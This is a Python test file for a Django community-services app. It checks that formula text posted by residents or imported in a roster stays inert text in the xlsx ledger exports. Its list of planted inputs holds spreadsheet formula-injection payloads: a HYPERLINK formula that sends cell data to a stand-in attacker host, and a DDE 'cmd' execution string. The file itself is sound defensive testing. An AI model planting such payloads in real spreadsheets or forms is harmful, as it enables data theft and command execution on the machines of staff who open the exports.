"""Text that a spreadsheet would run as a formula, typed where it can reach an export, stays text in the xlsx the
worker downloads: a resident's posts on the portal (民情民意办理台账) and a roster file someone hands the worker
(居民花名册)."""

from __future__ import annotations

import io
from datetime import date

import pytest
import xlsxwriter
from django.core.files.base import ContentFile
from django.urls import reverse
from openpyxl import load_workbook

from shequ.cases.models import Case
from shequ.residents.imports import jobs
from shequ.residents.models import ImportStatus, Person
from shequ.residents.tests.helpers import new_id

pytestmark = pytest.mark.django_db
PLANTED = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
]
STORED = [t.strip() for t in PLANTED]  # forms and the import trim the leading tab: "=1+1" is what reaches the sheet


def _sheet(response):
    body = b"".join(response.streaming_content)
    return load_workbook(io.BytesIO(body)).active


def _cells_with(ws, texts: list[str]) -> dict[str, object]:
    """The cell of each planted text (the first whose value starts with it)."""
    found = {}
    for row in ws.iter_rows():
        for cell in row:
            for text in texts:
                if text not in found and isinstance(cell.value, str) and cell.value.startswith(text):
                    found[text] = cell
    return found


def _roster_file(rows: list[list[str]]) -> bytes:
    """A roster whose cells hold the texts as text (as a spreadsheet keeps a cell typed with a leading quote)."""
    buf = io.BytesIO()
    wb = xlsxwriter.Workbook(buf, {"in_memory": True})
    ws = wb.add_worksheet()
    for r, row in enumerate([["姓名", "证件号码", "地址", "备注"], *rows]):
        for c, value in enumerate(row):
            ws.write_string(r, c, value)
    wb.close()
    return buf.getvalue()


def _is_text(cell) -> bool:
    # Written as a string with Excel's quote prefix (the ledger layer's escape): no spreadsheet runs it.
    return cell.data_type == "s" and bool(cell.quotePrefix)


def test_formulas_posted_by_a_resident_stay_text_in_the_opinions_ledger(personas, client_for):
    resident = client_for(personas.resident)
    for text in PLANTED:
        response = resident.post(
            reverse("portal:new"),
            {
                "org": personas.community_a.pk,
                "case_type": "opinion",
                "category": "建议",
                "title": text[:60],
                "description": text,
                "allow_public": "on",
            },
        )
        assert response.status_code == 302, response.content[:500]
    assert Case.objects.filter(reporter=personas.resident).count() == len(PLANTED)

    url = reverse("ledgers:export", args=["opinions", personas.community_a.pk, date.today().year, "xlsx"])
    response = client_for(personas.leader_a).get(url)
    assert response.status_code == 200
    ws = _sheet(response)
    cells = _cells_with(ws, STORED)  # 反映内容 is "title：description"
    assert set(cells) == set(STORED)
    assert all(_is_text(c) for c in cells.values()), {t: (c.data_type, c.quotePrefix) for t, c in cells.items()}
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_formulas_in_an_imported_roster_stay_text_in_the_roster_export(personas, client_for, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    rows = [[f"居民{i}", new_id(), text, text] for i, text in enumerate(PLANTED)]
    upload = ContentFile(_roster_file(rows), name="名册.xlsx")
    job = jobs.job_start(actor=personas.worker_a, org=personas.community_a, upload=upload)
    job.refresh_from_db()
    assert job.status == ImportStatus.CHECKED, (job.status, job.errors)
    jobs.job_confirm(actor=personas.worker_a, job=job)
    assert Person.objects.filter(org=personas.community_a).count() == len(PLANTED)

    url = reverse("ledgers:export_undated", args=["residents", personas.community_a.pk, "xlsx"])
    response = client_for(personas.leader_a).get(url)
    assert response.status_code == 200
    ws = _sheet(response)
    cells = _cells_with(ws, STORED)
    assert set(cells) == set(STORED)
    assert all(_is_text(c) for c in cells.values()), {t: (c.data_type, c.quotePrefix) for t, c in cells.items()}
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
